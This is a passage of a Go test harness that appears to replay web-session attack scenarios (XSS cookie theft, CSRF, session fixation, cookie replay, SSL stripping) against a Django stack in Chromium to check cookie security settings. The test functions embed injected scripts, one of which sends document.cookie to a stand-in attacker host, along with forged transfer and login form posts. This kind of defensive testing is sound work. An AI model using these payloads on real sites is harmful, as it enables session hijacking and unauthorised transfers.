// read with conformance.py's peek, which has no side effects: alice is
// user 1, as in the model (django_auth.go).
func (r *realRun) sessionUserID(key string) string {
	if key == "" {
		return ""
	}
	var out struct {
		Session struct {
			Alive bool
			Data  map[string]string
		}
	}
	r.s.django.call(r.t, map[string]any{"cmd": "peek", "key": key}, &out)
	if !out.Session.Alive {
		return ""
	}
	return cmp.Or(out.Session.Data["_auth_user_id"], out.Session.Data["user_id"])
}

// lastServedAs reports whether the last request the site served since the
// last look at its log was served as user.
func (r *realRun) lastServedAs(user string) bool {
	log := r.serverLog()
	return len(log) > 0 && log[len(log)-1].User == user
}

// rawResponse is what the attacker's client got.
type rawResponse struct {
	Status     int
	User       string
	Token      string
	SetCookies []string
}

// attacker sends a request from the attacker's own machine.
func (r *realRun) attacker(method, path, cookie string, form url.Values) rawResponse {
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	req, err := http.NewRequest(method, r.siteURL(path), body)
	if err != nil {
		r.fatal(err)
	}
	if cookie != "" {
		req.Header.Set("Cookie", cookie)
	}
	if method == "POST" {
		// A command-line client writes whatever headers pass the checks.
		o := r.siteURL("")
		req.Header.Set("Origin", o)
		req.Header.Set("Referer", o+path)
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	resp, err := r.s.raw.Do(req)
	if err != nil {
		r.logf("attacker %s %s: %v", method, path, err)
		return rawResponse{}
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	out := rawResponse{Status: resp.StatusCode, User: resp.Header.Get("X-Sim-User"), Token: resp.Header.Get("X-Sim-CSRF"), SetCookies: resp.Header.Values("Set-Cookie")}
	r.logf("attacker %s %s Cookie: %s -> %d as %q", method, path, cookie, out.Status, out.User)
	r.serverLog()
	return out
}

// replay is the attacker using a copied session cookie value.
func (r *realRun) replay(value string) string {
	return r.attacker("GET", "/account/", r.cfg.SessionCookieName+"="+value, nil).User
}

// inject sets what the attacker adds to the site's responses.
func (r *realRun) inject(c map[string]any) {
	c["cmd"] = "inject"
	if !r.cfg.HTTPS {
		c["block_tls"] = true
	}
	r.s.django.call(r.t, c, nil)
}

// servedPlain reports whether the site answered a plain-HTTP request in log.
func servedPlain(log []liveEntry) bool {
	for _, e := range log {
		if e.Scheme == "http" {
			return true
		}
	}
	return false
}

// succeededIf is the real outcome: the attack succeeded when what it was
// after happened.
func succeededIf(happened bool) Outcome {
	if happened {
		return Succeeded
	}
	return Blocked
}

// transferred reports whether the site served a transfer (to anyone) among log.
func transferred(log []liveEntry) bool {
	for _, e := range log {
		if e.Did == "transfer" {
			return true
		}
	}
	return false
}

// eval evaluates js in the victim's page (DevTools' evaluation, which no
// Content-Security-Policy restricts), awaiting a promise.
func evalIn[T any](r *realRun, js string) T {
	v, err := chromedp.Run(r.ctx, chromedp.Evaluate[T](js, chromedp.EvalAwaitPromise))
	if err != nil {
		r.logf("  eval %s: %v", js, err)
	}
	return v
}

// ---- the scenarios, as each sim script tells them ----

// realScenario plays one catalogue scenario on the real stack. skip names
// what the stack cannot play faithfully for a Config ("" when it can).
type realScenario struct {
	id   string
	skip func(cfg Config) string
	play func(r *realRun) Outcome
	// pinned are cases every run plays: a preset, then settings and values
	// in turn (the truths real components once showed, or that a route of
	// the attacker's needs).
	pinned [][]string
	// ownBrowser: the case closes the browser (realRun.closeBrowser).
	ownBrowser bool
}

// siblingPost is the attacker's post on the sibling, over scheme, where the
// model puts it (World.siblingPage).
func siblingPost(scheme string, cfg Config) string {
	return scheme + "://" + SiblingHost + (&World{cfg: cfg}).siblingPage().Path
}

// siblingFormScheme is the scheme the model's attacker serves the sibling's
// forged form over (World.siblingFormPage): the site's, or the other one
// when only that one's Origin is trusted. checked: the target view is
// CSRF-checked.
func siblingFormScheme(cfg Config, checked bool) string {
	return newWorld(cfg, nil, false).siblingFormPage(checked).Scheme
}

// serveSibling makes the sibling answer only over scheme, as the model's
// attacker does.
func (r *realRun) serveSibling(scheme string) {
	r.s.atk.mu.Lock()
	r.s.atk.noTLS[SiblingHost] = scheme == "http"
	r.s.atk.mu.Unlock()
}

// evilPage is the attacker's page, on the site's scheme (World.attackerPage).
func evilPage(cfg Config) string {
	if cfg.HTTPS {
		return "https://" + AttackerHost + "/"
	}
	return "http://" + AttackerHost + "/"
}

var realScenarios = []realScenario{
	{id: "basics", play: playBasics, pinned: [][]string{
		// ':' is legal in Python's cookie keys, and browsers keep it.
		{"defaults", "SESSION_COOKIE_NAME", "sess:id", "CSRF_COOKIE_NAME", "csrf:token"},
		// No Path: the login's cookie is scoped to /login, so /account/ goes without it.
		{"defaults", "SESSION_COOKIE_PATH", ""},
		// No age: Max-Age=0 deletes the cookie; a browser-session cookie
		// stays, but its session is over by the next request; set_expiry
		// gives the login's session an age of its own, except in
		// signed_cookies, whose load checks SESSION_COOKIE_AGE.
		{"defaults", "SESSION_COOKIE_AGE", "0"},
		{"defaults", "SESSION_COOKIE_AGE", "0", "SESSION_EXPIRE_AT_BROWSER_CLOSE", "True"},
		{"defaults", "SESSION_COOKIE_AGE", "0", "SESSION_ENGINE", "signed_cookies", "SESSION_EXPIRE_AT_BROWSER_CLOSE", "True"},
		{"defaults", "SESSION_COOKIE_AGE", "0", "set_expiry", "300"},
		{"defaults", "SESSION_COOKIE_AGE", "0", "set_expiry", "300", "SESSION_ENGINE", "signed_cookies"},
		// CSRF_COOKIE_PATH off /login/ fails every login; on /login/ only,
		// the login works and the transfer form fails.
		{"defaults", "CSRF_COOKIE_PATH", "/account/"},
		{"defaults", "CSRF_COOKIE_PATH", "/login/"},
		// One cookie name for both: CsrfViewMiddleware finds the signed
		// session value no CSRF token and replaces it on the page the login
		// leads to, unless the session is saved there too.
		{"defaults", "SESSION_ENGINE", "signed_cookies", "CSRF_COOKIE_NAME", "sessionid"},
		{"defaults", "SESSION_ENGINE", "signed_cookies", "CSRF_COOKIE_NAME", "sessionid", "SESSION_SAVE_EVERY_REQUEST", "True"},
		{"defaults", "SESSION_ENGINE", "signed_cookies", "CSRF_COOKIE_NAME", "sessionid", "CSRF_COOKIE_DOMAIN", ".example.com"},
		{"defaults", "SESSION_ENGINE", "signed_cookies", "CSRF_COOKIE_NAME", "sessionid", "CSRF_COOKIE_DOMAIN", ".example.com", "login", "handwritten"},
		// One cookie a name in a response: CSRF's SameSite=None stays on it.
		{"defaults", "CSRF_COOKIE_NAME", "sessionid", "CSRF_COOKIE_SAMESITE", "None", "SESSION_COOKIE_SAMESITE", ""},
	}},
	{id: "xss-cookie-theft", play: playXSSCookieTheft, pinned: [][]string{
		// One cookie a name in a response: CSRF's HttpOnly stays on it.
		{"defaults", "SESSION_COOKIE_HTTPONLY", "False", "CSRF_COOKIE_NAME", "sessionid", "CSRF_COOKIE_HTTPONLY", "True", "SESSION_ENGINE", "signed_cookies", "SESSION_SAVE_EVERY_REQUEST", "True"},
		{"defaults", "SESSION_COOKIE_NAME", "sess:id", "SESSION_COOKIE_HTTPONLY", "False"},
	}},
	{id: "xss-session-riding", play: playXSSSessionRiding, pinned: [][]string{
		{"defaults", "CSRF_COOKIE_PATH", "/login/"}, // the script's POST to /transfer/ carries no CSRF cookie
		{"defaults", "CSRF_COOKIE_PATH", ""},        // nor with the default-path of /login/
	}},
	{id: "csrf-cross-site-post", skip: skipCrossSitePost, play: playCSRFCrossSitePost, pinned: [][]string{
		// Lax-allowing-unsafe: a cookie with no SameSite a minute old goes.
		{"defaults", "SESSION_COOKIE_SAMESITE", "", "csrf_middleware", "False", "cross_site_post_after_seconds", "60"},
		// ... and not ten minutes old (played under -real.wait only).
		{"defaults", "SESSION_COOKIE_SAMESITE", "", "csrf_middleware", "False"},
	}},
	{id: "csrf-cross-site-get", play: playCSRFCrossSiteGet},
	{id: "csrf-sibling-post", skip: skipSiblingPost, play: playCSRFSiblingPost, pinned: [][]string{
		{"everything-off", "SESSION_COOKIE_SAMESITE", "Strict"}, // an http:// sibling is same-site
		{"defaults", "CSRF_TRUSTED_ORIGINS", "https://*.example.com"},
		// The sibling's Path=/ csrftoken and the site's own on /transfer/.
		{"defaults", "CSRF_COOKIE_PATH", "/transfer/", "CSRF_COOKIE_DOMAIN", ".example.com"},
		// No token to get, so no toss, which named like the session cookie
		// would shadow it.
		{"defaults", "CSRF_COOKIE_NAME", "sessionid", "csrf_middleware", "False"},
	}},
	{id: "login-csrf", skip: skipLoginCSRF, play: playLoginCSRF, pinned: [][]string{
		{"defaults", "CSRF_TRUSTED_ORIGINS", "https://*.example.com"},       // the second try, from the sibling
		{"defaults", "csrf_middleware", "False", "SESSION_COOKIE_PATH", ""}, // the forged login's cookie stays on /login
	}},
	{id: "replay-after-logout", play: playReplayAfterLogout, pinned: [][]string{
		{"defaults", "SESSION_ENGINE", "signed_cookies"}, // no record for logout to flush
		{"defaults", "SESSION_COOKIE_PATH", "/account/"}, // the logout form's POST carries no session cookie
		// file.py never expires an integer set_expiry; the logout flushes the
		// anonymous session CSRF_USE_SESSIONS started after the cookie expired.
		{"defaults", "SESSION_ENGINE", "file", "set_expiry", "301", "CSRF_USE_SESSIONS", "True"},
	}},
	{id: "subdomain-cookie-leak", play: playSubdomainCookieLeak, pinned: [][]string{
		{"everything-off", "SESSION_COOKIE_SAMESITE", "Strict"},
	}},
	{id: "password-change-eviction", play: playPasswordChangeEviction, pinned: [][]string{
		// The victim never stays logged in to change the password (basics).
		{"defaults", "SESSION_ENGINE", "signed_cookies", "CSRF_COOKIE_NAME", "sessionid"},
	}},
	{id: "idle-walkaway", play: playIdleWalkaway},
	{id: "shared-computer-browser-close", play: playSharedComputer, ownBrowser: true, pinned: [][]string{
		// Session restore, with a browser-session cookie and a persistent one.
		{"defaults", "SESSION_EXPIRE_AT_BROWSER_CLOSE", "True", "session_restore", "True"},
		{"defaults", "session_restore", "True"},
		{"learning-card", "set_expiry", "0", "session_restore", "True"},
		{"hardened", "session_restore", "True"}, // kept, but the session has expired
	}},
	{id: "stolen-cookie-kept-alive", skip: skipKeptAlive, play: playKeptAlive, pinned: [][]string{
		// Each replay re-saves the session: 288 replays over 11 hours.
		{"defaults", "SESSION_SAVE_EVERY_REQUEST", "True", "SESSION_COOKIE_AGE", "3600"},
		// A replay exactly SESSION_COOKIE_AGE after the last save finds the
		// signed value older than max_age: int(time.time()) truncates.
		{"defaults", "SESSION_SAVE_EVERY_REQUEST", "True", "SESSION_COOKIE_AGE", "300", "SESSION_ENGINE", "signed_cookies"},
	}},
	{id: "session-fixation", play: playSessionFixation, pinned: [][]string{
		// HSTS keeps bank.example.com off plain HTTP, not example.com.
		{"learning-card", "SECURE_HSTS_SECONDS", "31536000", "SECURE_CSP", "True", "attacker_subdomain", "False"},
		// The sibling's Path=/ cookie goes after the login's /account/ one,
		// and Django keeps the last of two.
		{"defaults", "SESSION_COOKIE_PATH", "/account/"},
		// The login page re-signs the planted session with the CSRF secret
		// under Path=/x/; the POST to /login/ carries only the planted one.
		{"defaults", "SESSION_COOKIE_PATH", "/x/", "SESSION_ENGINE", "signed_cookies", "CSRF_USE_SESSIONS", "True"},
		// No Path: the login that keeps the key re-sends it scoped to
		// /login; the planted Path=/ cookie still reaches /account/.
		{"defaults", "SESSION_COOKIE_PATH", "", "login", "handwritten"},
		// The browser rejects every session cookie Django sends, so nobody
		// can log in, except through the planted one the login keeps.
		{"defaults", "SESSION_COOKIE_NAME", "__Secure-sessionid", "login", "handwritten"},
		{"defaults", "SESSION_COOKIE_SAMESITE", "None", "login", "handwritten"},
		// The planted signed value is the CSRF cookie too, of the wrong
		// format: the login POST fails its CSRF check.
		{"defaults", "login", "handwritten", "SESSION_ENGINE", "signed_cookies", "CSRF_COOKIE_NAME", "sessionid", "SESSION_SAVE_EVERY_REQUEST", "True"},
	}},
	{id: "wifi-sniffing", skip: skipWifiSniffing, play: playWifiSniffing, pinned: [][]string{
		// A browser that does not try HTTPS first (startChromium).
		{"defaults", "https_upgrades", "False"},
		{"defaults", "https_upgrades", "False", "SECURE_SSL_REDIRECT", "True"},
		// The browser-session cookie outlives the file's five minutes: the
		// link's cookie opens nothing, and the redirect's is anonymous.
		{"everything-off", "SESSION_COOKIE_AGE", "300", "SESSION_EXPIRE_AT_BROWSER_CLOSE", "True", "SESSION_ENGINE", "file", "login", "auth"},
	}},
	{id: "ssl-strip", skip: skipSSLStrip, play: playSSLStrip, pinned: [][]string{
		{"defaults", "https_upgrades", "False"},
		{"hardened", "https_upgrades", "False"},
	}},
}

func skipWifiSniffing(cfg Config) string {
	if cfg.HTTPS && cfg.SecurityMiddleware && cfg.SecureHSTSSeconds > 0 && cfg.SecureHSTSSeconds <= 600 {
		// The model's listener starts ten minutes after the login, when
		// HSTS learnt at the login has expired; Chromium's HSTS store
		// counts on its real clock.
		return "an HSTS max-age within the ten minutes before the sniffed visit runs on Chromium's real clock"
	}
	return ""
}

func skipSSLStrip(cfg Config) string {
	if cfg.VisitedHTTPSBefore && cfg.HTTPS && cfg.SecurityMiddleware && cfg.SecureHSTSSeconds > 0 && cfg.SecureHSTSSeconds <= 24*3600 {
		// The model's victim visited a day before; Chromium's HSTS
		// store counts on its real clock.
		return "an HSTS max-age within the day between the visits runs on Chromium's real clock"
	}
	return ""
}

// realSkip is what no scenario here can play faithfully.
func realSkip(cfg Config) string {
	if cfg.Browser != Chromium {
		return "the real browser is Chromium"
	}
	return ""
}

func skipCrossSitePost(cfg Config) string {
	if cfg.SessionCookieSameSite == "" && cfg.CrossSitePostAfterSecs == 120 {
		// IsRecentlyCreated's "<=" holds at exactly two minutes, which a
		// real clock cannot hit (TestJar pins it).
		return "a cookie exactly two minutes old on Chromium's real clock"
	}
	if cfg.SessionCookieSameSite == "" && cfg.CrossSitePostAfterSecs > 120 && !*realWait {
		// kLaxAllowUnsafeMaxAge counts on Chromium's own clock, which the
		// harness does not move: the cookie would be seconds old.
		return "Lax-allowing-unsafe's two minutes run on Chromium's real clock"
	}
	return ""
}

func skipLoginCSRF(cfg Config) string {
	if !cfg.AttackerSubdomain {
		return ""
	}
	// The second try, from the sibling.
	scheme := siblingFormScheme(cfg, true)
	if scheme == "https" && !cfg.HTTPS {
		return "the sibling's https:// page posting to a plain-HTTP site meets Chromium's insecure-form warning"
	}
	return ""
}

func skipSiblingPost(cfg Config) string {
	scheme := siblingFormScheme(cfg, !cfg.TransferCSRFExempt)
	switch {
	case scheme == "https" && !cfg.HTTPS:
		// Chromium holds an https:// page's form to an http:// site behind
		// the "Form is not secure" warning; the model, which has no such
		// warning, withholds the cookie there (schemeful same-site).
		return "the sibling's https:// page posting to a plain-HTTP site meets Chromium's insecure-form warning"
	case scheme == "http" && cfg.HTTPS && cfg.SessionCookieSameSite == "" && !*realWait:
		return "a cross-scheme POST with no SameSite: Lax-allowing-unsafe's two minutes run on Chromium's real clock"
	}
	return ""
}

// keptAliveHorizon is the model's horizon for stolen-cookie-kept-alive: three
// of the session's lifetimes as its engine counts them, a day at least.
func keptAliveHorizon(cfg Config) (horizon, every int) {
	age := cfg.SessionCookieAge
	if cfg.SetExpiry > 0 {
		switch cfg.SessionEngine {
		case EngineSigned: // signed_cookies ignores set_expiry
		case EngineFile:
			age = 0 // file.py never expires an integer set_expiry
		default:
			age = cfg.SetExpiry
		}
	}
	every = cfg.ReplayEveryMinutes * 60
	horizon = max(3*age+every, 24*3600)
	return horizon, every
}

func skipKeptAlive(cfg Config) string {
	if h, e := keptAliveHorizon(cfg); h/e > 300 {
		return fmt.Sprintf("%d replays (one every %ds for %ds) are more than this check makes", h/e, e, h)
	}
	return ""
}

func playXSSCookieTheft(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	r.advance(60)
	r.inject(map[string]any{"script": `<script>window.__ran = 1; window.__sent = fetch("` + evilPage(r.cfg) +
		`collect?c=" + encodeURIComponent(document.cookie), {mode: "no-cors"}).then(() => 1, () => 0)</script>`})
	r.follow(r.siteURL("/account/"))
	r.inject(map[string]any{})
	r.serverLog()
	if !evalIn[bool](r, `window.__ran === 1`) {
		r.logf("the injected script did not run")
		return Blocked
	}
	evalIn[int](r, `window.__sent`)
	stolen := ""
	for _, q := range r.s.atk.requests() {
		if _, rest, ok := strings.Cut(q, "/collect?"); ok {
			v, _ := url.ParseQuery(strings.SplitN(rest, " ", 2)[0])
			r.logf("the attacker received document.cookie = %q", v.Get("c"))
			stolen = cookieValue(v.Get("c"), r.cfg.SessionCookieName)
		}
	}
	if stolen == "" {
		return Blocked
	}
	r.advance(60)
	return succeededIf(r.replay(stolen) == victimName)
}

func playXSSSessionRiding(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	r.advance(60)
	r.inject(map[string]any{"script": `<script>window.__ran = 1; window.__done = (async () => {
const page = await fetch("/login/");
const token = page.headers.get("X-Sim-CSRF") || "";
await fetch("/transfer/", {method: "POST", redirect: "manual",
  body: new URLSearchParams({to: "` + attackerName + `", amount: "1000", csrfmiddlewaretoken: token})});
return 1})().catch(() => 0)</script>`})
	r.follow(r.siteURL("/account/"))
	r.inject(map[string]any{})
	if !evalIn[bool](r, `window.__ran === 1`) {
		r.logf("the injected script did not run")
		r.serverLog()
		return Blocked
	}
	evalIn[int](r, `window.__done`)
	return succeededIf(transferred(r.serverLog()))
}

// outwaitLaxAllowingUnsafe, under -real.wait, lets two minutes pass on
// Chromium's own clock when the session cookie, with no SameSite, is secs
// old on the virtual one: past kLaxAllowUnsafeMaxAge, as in the model.
func (r *realRun) outwaitLaxAllowingUnsafe(secs int) {
	if !*realWait || r.cfg.SessionCookieSameSite != "" || secs <= 120 {
		return
	}
	r.logf("waiting 2m1s for real: Lax-allowing-unsafe counts on Chromium's clock")
	time.Sleep(121 * time.Second)
}

func playCSRFCrossSitePost(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	r.advance(r.cfg.CrossSitePostAfterSecs)
	r.outwaitLaxAllowingUnsafe(r.cfg.CrossSitePostAfterSecs)
	r.fromPage(evilPage(r.cfg), autoPost(r.siteURL("/transfer/"), map[string]string{"to": attackerName, "amount": "1000"}))
	return succeededIf(transferred(r.serverLog()))
}

func playCSRFCrossSiteGet(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	r.advance(600)
	r.fromPage(evilPage(r.cfg), `{const a = document.createElement("a"); a.href = `+strconv.Quote(r.siteURL("/transfer/?to="+attackerName+"&amount=1000"))+`; document.body.append(a); a.click()}`)
	return succeededIf(transferred(r.serverLog()))
}

func playCSRFSiblingPost(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	if !r.cfg.AttackerSubdomain {
		return Blocked
	}
	r.advance(600)
	r.outwaitLaxAllowingUnsafe(600)
	checked := r.cfg.CSRFMiddleware && !r.cfg.TransferCSRFExempt
	form := map[string]string{"to": attackerName, "amount": "1000"}
	if tok := r.siblingToken(siblingFormScheme(r.cfg, !r.cfg.TransferCSRFExempt), checked); checked {
		form[csrfFormField] = tok
	}
	r.navigateBy(autoPost(r.siteURL("/transfer/"), form))
	return succeededIf(transferred(r.serverLog()))
}

// siblingToken opens the sibling's post over scheme, which gets a CSRF
// token as World.siblingCSRFToken does when needed: the victim's own cookie
// when the request carries it, else a secret tossed for the whole domain.
func (r *realRun) siblingToken(scheme string, needed bool) string {
	name := r.cfg.CSRFCookieName
	var mu sync.Mutex
	token := ""
	r.s.atk.reset(func(w http.ResponseWriter, req *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		switch v := cookieValue(strings.Join(req.Header.Values("Cookie"), "; "), name); {
		case !needed: // no token to get, so nothing to toss
		case v != "":
			token = v // the victim's own, sent to every subdomain
		default:
			line := name + "=" + tossedSecret + "; Domain=" + ParentDomain[1:] + "; Path=/"
			if req.TLS != nil {
				line += "; Secure"
			}
			w.Header().Add("Set-Cookie", line)
			token = tossedSecret
		}
		w.Write([]byte("<!doctype html><title>post</title><body></body>"))
	})
	r.serveSibling(scheme)
	r.open(siblingPost(scheme, r.cfg))
	mu.Lock()
	defer mu.Unlock()
	r.logf("the sibling's page holds the token %s", short(token))
	return token
}

func playLoginCSRF(r *realRun) Outcome {
	creds := map[string]string{"username": attackerName, "password": passwordOf(attackerName)}
	r.fromPage(evilPage(r.cfg), autoPost(r.siteURL("/login/"), creds))
	if log := r.serverLog(); len(log) > 0 && log[len(log)-1].Status == 403 && r.cfg.AttackerSubdomain {
		// Refused by the CSRF check: the attacker tries again from the
		// sibling, as the model's does (World.siblingLogin).
		form := map[string]string{csrfFormField: r.siblingToken(siblingFormScheme(r.cfg, true), true)}
		maps.Copy(form, creds)
		r.navigateBy(autoPost(r.siteURL("/login/"), form))
		r.serverLog()
	}
	r.advance(60)
	r.open(r.siteURL("/account/"))
	return succeededIf(r.lastServedAs(attackerName))
}

func playReplayAfterLogout(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	r.advance(300)
	stolen := r.sessionCookie()
	r.logf("the attacker copies %s=%s", r.cfg.SessionCookieName, short(stolen))
	r.advance(300)
	r.follow(r.siteURL("/account/"))
	r.submit("logout", nil)
	r.serverLog()
	r.advance(300)
	return succeededIf(r.replay(stolen) == victimName)
}

func playSubdomainCookieLeak(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	if !r.cfg.AttackerSubdomain {
		return Blocked
	}
	r.advance(300)
	// The post shows an image from its own host, as Chromium's own
	// /favicon.ico request would: its requests to its host are same-site
	// whatever the link was. The load event waits for the image, so what
	// its request carried is in before the page counts as loaded.
	r.s.atk.reset(func(w http.ResponseWriter, req *http.Request) {
		if req.URL.Path == (&World{cfg: r.cfg}).siblingPage().Path {
			w.Write([]byte(`<!doctype html><title>post</title><body><img src="/pixel.gif"></body>`))
		}
	})
	r.follow(siblingPost(r.siteScheme(), r.cfg))
	stolen := ""
	for _, q := range r.s.atk.requests() {
		if _, c, ok := strings.Cut(q, " Cookie: "); ok && strings.HasPrefix(q, SiblingHost+" ") {
			r.logf("%s receives Cookie: %s", SiblingHost, c)
			if v := cookieValue(c, r.cfg.SessionCookieName); v != "" {
				stolen = v // the post's own request; its image, off the cookie's path, may carry none
			}
		}
	}
	if stolen == "" {
		return Blocked
	}
	return succeededIf(r.replay(stolen) == victimName)
}

func playPasswordChangeEviction(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	stolen := r.sessionCookie()
	r.logf("the attacker copies %s=%s", r.cfg.SessionCookieName, short(stolen))
	r.advance(60)
	jar := map[string]string{}
	form := r.attacker("GET", "/login/", "", nil)
	absorb(jar, form.SetCookies)
	resp := r.attacker("POST", "/login/", cookieHeader(jar), url.Values{"username": {victimName}, "password": {passwordOf(victimName)}, "csrfmiddlewaretoken": {form.Token}})
	absorb(jar, resp.SetCookies)
	if own := r.attacker("GET", "/account/", cookieHeader(jar), nil); own.User != victimName {
		return Blocked
	}
	r.advance(60)
	r.follow(r.siteURL("/account/"))
	r.submit("password", map[string]string{"old_password": passwordOf(victimName), "new_password": "a new password"})
	r.serverLog()
	r.advance(60)
	copyUser := r.replay(stolen)
	ownUser := r.attacker("GET", "/account/", cookieHeader(jar), nil).User
	return succeededIf(copyUser == victimName || ownUser == victimName)
}

func playIdleWalkaway(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	for range 4 {
		r.advance(300)
		r.follow(r.siteURL("/account/"))
	}
	r.serverLog()
	r.advance(r.cfg.IdleMinutes * 60)
	r.logf("the next person sits down")
	r.follow(r.siteURL("/account/"))
	return succeededIf(r.lastServedAs(victimName))
}

func playSharedComputer(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	r.advance(600)
	r.follow(r.siteURL("/account/"))
	r.serverLog()
	r.closeBrowser()
	// The idle time passes with the browser started again (advance deletes
	// what expires in it over DevTools): it sends nothing before the next
	// person's request.
	r.advance(r.cfg.IdleMinutes * 60)
	r.logf("the next person opens the site")
	r.open(r.siteURL("/account/"))
	return succeededIf(r.lastServedAs(victimName))
}

func playKeptAlive(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	stolen := r.sessionCookie()
	r.logf("the attacker copies %s=%s; the victim stops using the site", r.cfg.SessionCookieName, short(stolen))
	horizon, every := keptAliveHorizon(r.cfg)
	n := 0
	for at := every; at <= horizon; at += every {
		r.s.django.call(r.t, map[string]any{"cmd": "advance", "seconds": every}, nil)
		r.now += every
		resp := r.attacker("GET", "/account/", r.cfg.SessionCookieName+"="+stolen, nil)
		n++
		if v := (&World{cfg: r.cfg}).sessionValue(resp.SetCookies); v != "" && v != `""` {
			stolen = v // the attacker's client keeps what the site sends
		}
		if resp.User != victimName {
			r.logf("replay %d, %ds after the theft, is not %s's", n, at, victimName)
			return Blocked
		}
		if len(r.trace) > 60 {
			r.trace = append(r.trace[:20], "  …")
		}
	}
	r.logf("%d replays, every %ds for %ds, all as %s", n, every, horizon, victimName)
	return Succeeded
}

// ---- the test ----

var (
	realSeed = flag.Uint64("real.seed", 20260302, "seed of TestScenariosRealStack's single-setting variations")
	realN    = flag.Int("real.n", 5, "single-setting variations TestScenariosRealStack plays per scenario")
	realMix  = flag.Int("real.mix", 0, "variations of two to four settings at once TestScenariosRealStack plays per scenario")
	realAll  = flag.Bool("real.all", false, "draw TestScenariosRealStack's variations from every setting, not only the scenario's Toggles and Fixes")
	realOnly = flag.String("real.scenario", "", "play only this scenario id in TestScenariosRealStack")
	realWait = flag.Bool("real.wait", false, "play the cases Lax-allowing-unsafe decides by waiting out Chromium's two minutes for real (slow; by hand)")
)

// realCase is one scenario on one Config: a preset, or a preset with one
// setting changed.
type realCase struct {
	sc     *Scenario
	play   realScenario
	preset string
	set    []string // the changed settings, key and value in turn; none for the preset itself
	cfg    Config
}

func (c realCase) String() string {
	s := c.sc.ID + " on " + c.preset
	for i := 0; i < len(c.set); i += 2 {
		if i == 0 {
			s += " with "
		} else {
			s += ", "
		}
		s += c.set[i] + "=" + c.set[i+1]
	}
	return s
}

// pin is the case in the forms it is pinned in: the command line and a
// TestTruths config.
func (c realCase) pin() string {
	set, with := "", `with(t, "`+c.preset+`"`
	for i := 0; i < len(c.set); i += 2 {
		set += " --set " + c.set[i] + "=" + c.set[i+1]
		with += `, "` + c.set[i] + `", "` + c.set[i+1] + `"`
	}
	return "go run . verdicts --preset " + c.preset + set + "   (scenario " + c.sc.ID + ")\n\t" +
		`"` + c.sc.ID + `", ` + with + ")"
}

// realCases are the four presets, then n single-setting variations per
// scenario drawn from the seed: a setting the scenario's Toggles list (any
// setting, with all) set to another of its candidate values, or one of the
// preset's Fixes; then mix variations that change two to four of them.
// realTypedValues are values a user can type into a field that none of its
// Choices offers, drawn as if they were candidates.
var realTypedValues = map[string][]string{
	// "" and "account/" are no Path browsers take: each page that sets the
	// cookie scopes it to its own folder.
	"SESSION_COOKIE_PATH":   {"/account/", "/account", "/acc", "/x/", "", "account/"},
	"SESSION_COOKIE_DOMAIN": {"bank.example.com", "example.com", ".bank.example.com", "evil.example.net", "com"},
	// Prefixes match case-insensitively; __Http- asks for HttpOnly too.
	// "csrftoken" makes the session cookie the CSRF cookie too.
	"SESSION_COOKIE_NAME": {"__secure-sessionid", "__HOST-sessionid", "__Http-sessionid", "__Host-Http-sessionid", "csrftoken"},
	"CSRF_COOKIE_DOMAIN":  {"bank.example.com", "example.com", "evil.example.net"},
	"CSRF_COOKIE_PATH":    {"/account/", "/login/", "/transfer/", ""},
	"CSRF_COOKIE_NAME":    {"__secure-csrftoken", "__Http-csrftoken", "__Host-Http-csrftoken"},
	// Ages on either side of the stories' one- and five-minute steps.
	"SESSION_COOKIE_AGE": {"60", "61", "301", "1800", "0"},
	"set_expiry":         {"60", "301", "1800"},
	"idle_minutes":       {"1", "4", "14", "15", "16"},
	// Either side of the day between ssl-strip's visits (86400 itself is
	// the expiry instant, pinned by TestHSTS).
	"SECURE_HSTS_SECONDS": {"60", "86399", "86401"},
	// An attacker's origin trusted outright, a port Origin never carries,
	// a scheme the site does not use, and a wildcard for the wrong site.
	"CSRF_TRUSTED_ORIGINS": {"https://evil.example.net", "https://evil.example.net:443", "http://blog.example.com", "https://*.example.net"},
	// Under Lax-allowing-unsafe's two minutes (at or over it runs on
	// Chromium's own clock; see skipCrossSitePost).
	"cross_site_post_after_seconds": {"0", "119"},
}

func realCases(t *testing.T, seed uint64, n, mix int, all bool, only string) (cases []realCase, skipped []string) {
	for _, rs := range realScenarios {
		if only != "" && rs.id != only {
			continue
		}
		// Each scenario draws from a generator of its own, so that
		// -real.scenario plays the very cases of the whole run.
		h := fnv.New64a()
		h.Write([]byte(rs.id))
		r := mrand.New(mrand.NewPCG(seed, h.Sum64()))
		sc, ok := ScenarioByID(rs.id)
		if !ok {
			t.Fatalf("no scenario %q", rs.id)
		}
		try := func(c realCase) bool {
			why := realSkip(c.cfg)
			if why == "" && rs.skip != nil {
				why = rs.skip(c.cfg)
			}
			if why != "" {
				skipped = append(skipped, c.String()+": "+why)
				return false
			}
			cases = append(cases, c)
			return true
		}
		var pool []realCase
		seen := map[string]bool{}
		for _, p := range Presets {
			try(realCase{sc: sc, play: rs, preset: p.ID, cfg: p.Config})
			add := func(key, value string) {
				cfg := p.Config
				if cfg.Set(key, value) != nil || cfg == p.Config || seen[p.ID+key+value] {
					return
				}
				seen[p.ID+key+value] = true
				pool = append(pool, realCase{sc: sc, play: rs, preset: p.ID, set: []string{key, value}, cfg: cfg})
			}
			for _, f := range Fields {
				if all || slices.Contains(sc.Toggles, f.Key) {
					for _, v := range append(f.Candidates(), realTypedValues[f.Key]...) {
						add(f.Key, v)
					}
				}
			}
			for _, fx := range sc.Fixes(p.Config) {
				add(fx.Key, fx.To)
			}
		}
		pinned := map[string]bool{}
		for _, pin := range rs.pinned {
			p, ok := PresetByID(pin[0])
			cfg := p.Config
			for i := 1; ok && i+1 < len(pin); i += 2 {
